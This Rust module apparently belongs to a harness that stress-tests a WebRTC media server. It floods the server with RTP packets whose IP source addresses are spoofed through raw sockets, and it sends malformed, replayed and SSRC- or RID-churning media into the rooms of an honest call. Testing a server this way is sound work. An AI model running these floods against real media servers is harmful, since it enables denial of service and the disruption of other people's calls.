//! Attacks with media: junk from everywhere, and packets of a publisher in the room of the honest call.

use super::attack::{Attack, Stint, again, together};
use super::call;
use super::intruder::{Intruder, MID_EXTENSION, REPAIRED_RID_EXTENSION, RID_EXTENSION, RTX, VP8, room};
use super::target::Target;
use crate::Failure;
use socket2::{Domain, Protocol, Socket, Type};
use std::net::{SocketAddr, SocketAddrV4};

const INTRUDERS: u32 = 2;
const PER_SECOND: u32 = 4_000;
/// The sender writes the header of IP too.
const IPPROTO_RAW: i32 = 255;
/// Of VP8, after a descriptor with a picture id.
const PAYLOAD_BYTES: usize = 200;

pub(super) const ATTACKS: &[Attack] = &[
    Attack { name: "rtp-spoofed-junk", attackers: 1, run: spoofed },
    Attack {
        name: "rtp-wrong-tags",
        attackers: INTRUDERS,
        run: |target, stint| flood(target, stint, wrong_tag),
    },
    Attack { name: "rtp-replays", attackers: INTRUDERS, run: |target, stint| flood(target, stint, replay) },
    Attack {
        name: "rtp-new-ssrcs",
        attackers: INTRUDERS,
        run: |target, stint| publish(target, stint, new_ssrc),
    },
    Attack {
        name: "rtp-rtx-ssrcs",
        attackers: INTRUDERS,
        run: |target, stint| publish(target, stint, rtx_ssrc),
    },
    Attack { name: "rtp-rids", attackers: INTRUDERS, run: |target, stint| publish(target, stint, rids) },
];

/// Header fields of packet `n`: SSRC, payload type, number in its stream, and extensions.
struct Fields {
    ssrc: u32,
    payload_type: u8,
    number: u64,
    extensions: Vec<(u8, Vec<u8>)>,
}

/// Random bytes that claim to come from the honest participants.
fn spoofed(target: &Target, stint: Stint) -> Result<u64, Failure> {
    let raw = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(IPPROTO_RAW)))
        .map_err(|error| format!("packets in others' names need root: {error}"))?;
    let mut pace = stint.pace(2 * PER_SECOND);
    while pace.next() {
        let at = pace.count() as usize;
        let (from, to) =
            (target.victims[at % target.victims.len()], target.media[at / 7 % target.media.len()]);
        let (SocketAddr::V4(from), SocketAddr::V4(to)) = (from, to) else { continue };
        let mut rtp =
            header(&Fields { ssrc: at as u32, payload_type: VP8, number: 1, extensions: Vec::new() });
        rtp.resize(rtp.len() + PAYLOAD_BYTES, at as u8);
        // What the kernel does not take is lost.
        let _ = raw.send_to(&ip_packet(from, to, &rtp), &SocketAddr::V4(to).into());
    }
    Ok(pace.count())
}

/// A datagram in its IPv4 packet; the kernel writes the checksum of the header, and UDP does without one.
fn ip_packet(from: SocketAddrV4, to: SocketAddrV4, payload: &[u8]) -> Vec<u8> {
    let udp_bytes = 8 + payload.len() as u16;
    let mut packet = vec![0x45, 0];
    packet.extend((20 + udp_bytes).to_be_bytes());
    packet.extend([0, 0, 0, 0, 64, 17, 0, 0]);
    packet.extend(from.ip().octets());
    packet.extend(to.ip().octets());
    packet.extend(from.port().to_be_bytes());
    packet.extend(to.port().to_be_bytes());
    packet.extend(udp_bytes.to_be_bytes());
    packet.extend([0, 0]);
    packet.extend(payload);
    packet
}

/// What an intruder sends as packet `n`.
type Sender = fn(&mut Intruder, u64) -> Result<(), Failure>;

/// In rooms of their own.
fn flood(target: &Target, stint: Stint, sender: Sender) -> Result<u64, Failure> {
    send(target, stint, room, sender)
}

/// In the rooms of the honest call.
fn publish(target: &Target, stint: Stint, sender: Sender) -> Result<u64, Failure> {
    send(target, stint, call::room, sender)
}

fn send(target: &Target, stint: Stint, room: fn(usize) -> String, sender: Sender) -> Result<u64, Failure> {
    together(INTRUDERS as usize, |number| {
        again(stint, PER_SECOND, |joined, pace| {
            let mut intruder = Intruder::join(target, &room(number), &format!("intruder-{joined}"))?;
            while pace.next() {
                sender(&mut intruder, pace.count())?;
                if pace.count().is_multiple_of(64) {
                    intruder.breathe()?;
                }
            }
            Ok(())
        })
    })
}

fn wrong_tag(intruder: &mut Intruder, n: u64) -> Result<(), Failure> {
    let mut packet = header(&Fields { ssrc: n as u32, payload_type: VP8, number: n, extensions: Vec::new() });
    packet.resize(packet.len() + PAYLOAD_BYTES, 7);
    intruder.publisher.send(&packet);
    Ok(())
}

/// One packet over and over.
fn replay(intruder: &mut Intruder, n: u64) -> Result<(), Failure> {
    let fields = Fields { ssrc: 7, payload_type: VP8, number: n, extensions: mid_and(&[]) };
    let packet = seal(intruder, &fields)?;
    for _ in 0..7 {
        intruder.publisher.send(&packet);
    }
    Ok(())
}

fn new_ssrc(intruder: &mut Intruder, n: u64) -> Result<(), Failure> {
    let extensions = mid_and(&[(RID_EXTENSION, b"q")]);
    seal(intruder, &Fields { ssrc: 1_000_000 + n as u32, payload_type: VP8, number: 1, extensions })?;
    Ok(())
}

/// Retransmissions of one layer by two streams in turn.
fn rtx_ssrc(intruder: &mut Intruder, n: u64) -> Result<(), Failure> {
    let (ssrc, extensions) = (21 + (n % 2) as u32, mid_and(&[(REPAIRED_RID_EXTENSION, b"q")]));
    seal(intruder, &Fields { ssrc, payload_type: RTX, number: n / 2, extensions })?;
    Ok(())
}

/// Every layer by every stream in turn.
fn rids(intruder: &mut Intruder, n: u64) -> Result<(), Failure> {
    let rid: &[u8] = [b"q", b"h", b"f", b"x"][n as usize % 4];
    let (ssrc, extensions) = (30 + (n / 4 % 5) as u32, mid_and(&[(RID_EXTENSION, rid)]));
    seal(intruder, &Fields { ssrc, payload_type: VP8, number: n, extensions })?;
    Ok(())
}

fn mid_and(more: &[(u8, &[u8])]) -> Vec<(u8, Vec<u8>)> {
    let more = more.iter().map(|(id, value)| (*id, value.to_vec()));
    std::iter::once((MID_EXTENSION, b"1".to_vec())).chain(more).collect()
}

/// Sends a key frame in one packet; gives what left.
fn seal(intruder: &mut Intruder, fields: &Fields) -> Result<Vec<u8>, Failure> {
    let mut packet = header(fields);
    let header_len = packet.len();
    packet.extend([0x90, 0x80, 0x80, fields.number as u8, 0x10]);
    packet.resize(header_len + PAYLOAD_BYTES, 7);
    intruder.publisher.send_rtp(packet, header_len, fields.number)
}

/// A header with one-byte extensions (RFC 8285 §4.2).
fn header(fields: &Fields) -> Vec<u8> {
    let mut elements: Vec<u8> = Vec::new();
    for (id, value) in &fields.extensions {
        elements.push(id << 4 | (value.len() as u8).saturating_sub(1));
        elements.extend(value);
    }
    elements.resize(elements.len().next_multiple_of(4), 0);
    let flags = if elements.is_empty() { 0x80 } else { 0x90 };
    let mut header = vec![flags, 0x80 | fields.payload_type];
    header.extend((fields.number as u16).to_be_bytes());
    header.extend((fields.number as u32).wrapping_mul(3_000).to_be_bytes());
    header.extend(fields.ssrc.to_be_bytes());
    if !elements.is_empty() {
        header.extend([0xbe, 0xde]);
        header.extend((elements.len() as u16 / 4).to_be_bytes());
        header.extend(elements);
    }
    header
}
